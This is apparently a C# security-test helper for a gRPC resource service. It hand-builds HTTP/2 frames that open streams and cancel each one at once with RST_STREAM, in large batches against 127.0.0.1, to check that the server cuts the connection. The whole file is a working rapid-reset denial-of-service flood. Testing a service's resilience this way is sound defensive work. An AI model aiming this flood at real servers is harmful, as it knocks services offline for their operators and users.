using System.Buffers.Binary;
using System.Text;

namespace ResourceService.Server.Tests.Security;

/// <summary>HTTP/2 by hand: requests that are taken back in the same breath, as fast as the connection carries them.</summary>
internal static class ResetFlood
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte EndHeaders = 4;

    /// <summary>Opens and resets so many calls; fails with an IOException when the service ends the connection.</summary>
    public static async Task SendAsync(Stream connection, string path, int calls)
    {
        var block = HeaderBlock(path);
        await connection.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        await connection.WriteAsync(Frame(Settings, 0, 0, []));
        var cancel = new byte[] { 0, 0, 0, 8 };
        var burst = new MemoryStream();
        for (var i = 0; i < calls; i++)
        {
            var stream = 2 * i + 1;
            burst.Write(Frame(Headers, EndHeaders, stream, block));
            burst.Write(Frame(Reset, 0, stream, cancel));
            if (i % 100 != 99)
                continue;
            await connection.WriteAsync(burst.ToArray());
            burst.SetLength(0);
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    // Literal fields without indexing (RFC 7541, section 6.2.2), no Huffman code: every text here is shorter than 127 bytes.
    private static byte[] HeaderBlock(string path)
    {
        var block = new MemoryStream();
        foreach (var (name, value) in new[]
            {
                (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"),
                ("content-type", "application/grpc"), ("te", "trailers"),
            })
        {
            block.WriteByte(0);
            Write(name);
            Write(value);
        }

        return block.ToArray();

        void Write(string text)
        {
            block.WriteByte((byte)text.Length);
            block.Write(Encoding.ASCII.GetBytes(text));
        }
    }
}
